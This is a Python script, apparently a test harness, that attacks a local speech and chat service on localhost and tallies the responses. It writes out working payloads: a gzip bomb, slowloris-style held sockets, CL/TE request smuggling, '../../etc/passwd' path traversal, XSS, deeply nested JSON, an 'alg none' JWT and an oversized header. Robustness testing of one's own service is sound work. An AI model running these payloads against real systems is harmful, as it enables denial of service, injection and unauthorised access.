"""All attacks at once, from addresses of their own: `python attackers.py PORT KEY SECONDS`. Prints how many of each.

A program, so that what it costs is not the service's. It has a valid key, so it comes as far as anybody can.
"""

from __future__ import annotations

import asyncio
import gzip
import json
import os
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable

MIB = 1024 * 1024
HELD = 100  # sockets that say nothing, or half a head
DEAF = 6  # who ask for sound and do not read it
PAUSE_S = 0.05
JSON = "Content-Type: application/json\r\n"
done: Counter[str] = Counter()


class Attacker:
    def __init__(self, port: int, key: str) -> None:
        self._port, self._key = port, key
        self._held: list[asyncio.StreamWriter] = []

    async def send(self, name: str, data: bytes, *, at: str = "127.0.0.3", read: bool = True) -> None:
        """Sends, reads the answer's first line, and goes."""
        try:
            async with asyncio.timeout(3):
                reader, writer = await asyncio.open_connection("127.0.0.1", self._port, local_addr=(at, 0))
                writer.write(data)
                if not read:
                    self._held.append(writer)
                    done[name] += 1
                    return
                line = await reader.readline()
                writer.transport.abort()
            done[f"{name} {line[9:12].decode('latin-1')}".strip()] += 1
        except (OSError, TimeoutError) as error:
            done[f"{name} {type(error).__name__}"] += 1

    def request(self, path: str, body: bytes, *, headers: str = JSON, key: str | None = None) -> bytes:
        head = f"POST {path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {key or self._key}\r\n{headers}"
        return f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body

    async def hold(self) -> None:
        for number in range(HELD):
            await self.send("held", b"" if number % 2 else b"POST /token HT", at="127.0.0.4", read=False)
        endless = json.dumps({"text": "A word and another one. " * 80, "stream": True}).encode()
        for _ in range(DEAF):
            await self.send("deaf", self.request("/synthesize", endless), at="127.0.0.5", read=False)

    def kinds(self) -> list[Callable[[], Awaitable[None]]]:
        bomb = gzip.compress(b"\0" * (32 * MIB))
        packed = f"{JSON}Content-Encoding: gzip\r\n"
        large = json.dumps({"text": "a" * (10 * MIB)}).encode()
        smuggled = b"POST /token HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n"
        upgrade = b"GET /stream HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        half = b'{"text": "\\ud800 and \\udfff"}'
        voice = json.dumps({"text": "Hi.", "voice_id": "../../etc/passwd\0"}).encode()
        script = json.dumps({"participant_name": "<script>alert(1)</script>\0"}).encode()
        form = "Content-Type: multipart/form-data; boundary=x\r\n"
        bodies = {
            "bomb": self.request("/synthesize", bomb, headers=packed),
            "large": self.request("/chat", large),
            "surrogates": self.request("/synthesize", half),
            "voice": self.request("/synthesize", voice),
            "script": self.request("/token", script),
            "deep": self.request("/chat", b"[" * 60_000),
            "wrong key": self.request("/token", b"", key="eyJhbGciOiJub25lIn0.e30."),
            "smuggled": smuggled + b"0\r\n\r\n",
            "long head": b"GET / HTTP/1.1\r\nX: " + b"a" * 100_000,
            "upgrade": upgrade
            + b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: x\r\nOrigin: http://evil.test\r\n\r\n",
            "form": self.request("/v1/audio/transcriptions", b"--x\r\n" * 9_000, headers=form),
        }
        return [lambda name=name, body=body: self.send(name, body) for name, body in bodies.items()]  # type: ignore[misc]


async def main(port: int, key: str, seconds: float) -> None:
    attacker = Attacker(port, key)
    await attacker.hold()
    end_s = time.monotonic() + seconds
    kinds = attacker.kinds()
    while time.monotonic() < end_s:
        for attack in kinds:
            await attack()
            await asyncio.sleep(PAUSE_S)
    print(json.dumps(done))


if __name__ == "__main__":
    os.nice(10)  # other machines' work, which in truth is not done here
    asyncio.run(main(int(sys.argv[1]), sys.argv[2], float(sys.argv[3])))
